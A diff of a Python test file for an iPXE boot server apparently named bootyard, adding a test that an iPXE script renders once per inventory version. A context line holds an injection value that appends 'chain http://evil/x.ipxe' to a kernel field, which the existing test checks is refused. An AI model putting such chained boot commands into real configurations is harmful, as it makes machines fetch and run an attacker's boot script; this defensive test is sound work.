@@ -69,3 +69,22 @@ async def test_f2_refused_at_write_time_with_key_and_field(inventory):
         await inventory.store.write(KINDS["profile"], "p", {
             "kernel": "http://10.0.0.1/linux || chain http://evil/x.ipxe"}, mode="replace")
     assert "bootyard:profile:p kernel=" in str(err.value.problems[0])
+
+
+def _renders(text: str, result: str) -> float:
+    name = f'bootyard_http_renders_total{{result="{result}",template="ipxe"}}'
+    line = next(line_ for line_ in text.splitlines() if line_.startswith(name))
+    return float(line.split()[-1])
+
+
+async def test_f9_a_script_renders_once_per_inventory_version(inventory, http):
+    await setup(inventory, "console=ttyS0 hostname={{ host.hostname }}")
+    before = await (await http.get("/metrics")).text()
+    for _ in range(3):
+        assert (await http.get(f"/boot/ipxe?mac={MAC}")).status == 200
+    after = await (await http.get("/metrics")).text()
+    assert _renders(after, "ok") - _renders(before, "ok") == 1
+    assert _renders(after, "cached") - _renders(before, "cached") == 2
+    await inventory.put("host", MAC, hostname="web2", ip="127.0.0.1", profile="debian12")
+    text = await (await http.get(f"/boot/ipxe?mac={MAC}")).text()
+    assert "hostname=web2" in text  # a new inventory version renders again
